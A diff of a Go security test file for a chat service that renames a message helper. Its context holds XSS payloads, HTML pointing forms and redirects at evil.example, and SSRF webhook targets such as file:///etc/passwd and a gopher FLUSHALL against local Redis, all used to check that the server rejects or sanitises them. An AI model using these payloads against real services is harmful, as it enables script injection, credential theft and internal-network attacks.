@@ -34,7 +34,7 @@ const nowhere = 1 << 40 // an ID that does not exist
 func hiddenRooms(t *testing.T, s *target) {
 	alice, mallory := s.user(t, "hilda"), s.user(t, "mallory")
 	room := s.room(t, alice, "Hidden", map[string]any{"private": true, "password": s.secret("a room's password", "open sesame now")})
-	said, err := say(t, alice, room.ID, "nobody else reads this")
+	said, err := send(t, alice, room.ID, "nobody else reads this")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -91,7 +91,7 @@ func hiddenRooms(t *testing.T, s *target) {
 	}
 }
 
-func say(t *testing.T, c *client.Client, room chat.RoomID, text string) (chat.Message, error) {
+func send(t *testing.T, c *client.Client, room chat.RoomID, text string) (chat.Message, error) {
 	t.Helper()
 	var out struct {
 		Message chat.Message `json:"message"`
@@ -103,7 +103,7 @@ func say(t *testing.T, c *client.Client, room chat.RoomID, text string) (chat.Me
 func messages(t *testing.T, s *target) {
 	alice, bob := s.user(t, "martha"), s.user(t, "norbert")
 	room := s.room(t, alice, "Open", nil)
-	said, err := say(t, alice, room.ID, "mine")
+	said, err := send(t, alice, room.ID, "mine")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -122,7 +122,7 @@ func messages(t *testing.T, s *target) {
 	}
 	// A reply to a hidden message would quote it.
 	hidden := s.room(t, alice, "Elsewhere", map[string]any{"private": true})
-	secret, err := say(t, alice, hidden.ID, "not for bob")
+	secret, err := send(t, alice, hidden.ID, "not for bob")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -151,7 +151,7 @@ func repeatedSends(t *testing.T, s *target) {
 				t.Fatal("joined without the password")
 			}
 			wantStatus(t, "join", s.request(t, bob, http.MethodPost, "/api/v1/rooms/join", fmt.Sprintf(`{"name":%q,"password":"come in and repeat"}`, name), nil), http.StatusOK)
-			answered, err := say(t, alice, room.ID, "the question as it was")
+			answered, err := send(t, alice, room.ID, "the question as it was")
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -228,7 +228,7 @@ func html(t *testing.T, s *target) {
 		`[x](https://example.org/" onmouseover="alert(1))`, `<p style="background:url(javascript:alert(1))">`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
 		`@xenia"><script>alert(1)</script>`, `<form action=//evil.example><input name=password>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
 	} {
-		m, err := say(t, alice, room.ID, text)
+		m, err := send(t, alice, room.ID, text)
 		if err != nil {
 			t.Fatalf("%q: %v", text, err)
 		}
@@ -274,7 +274,7 @@ func webhooks(t *testing.T, s *target) {
 	for _, target := range []string{"file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL", "ftp://example.org/", "http://user:pass@example.org/", "//example.org", "http://", "javascript:alert(1)"} {
 		wantStatus(t, target, s.request(t, alice, http.MethodPost, path, `{"url":"`+target+`"}`, nil), http.StatusUnprocessableEntity)
 	}
-	if _, err := say(t, alice, room.ID, "go and fetch"); err != nil {
+	if _, err := send(t, alice, room.ID, "go and fetch"); err != nil {
 		t.Fatal(err)
 	}
 	// Every created webhook has tried and failed before the calls are checked.
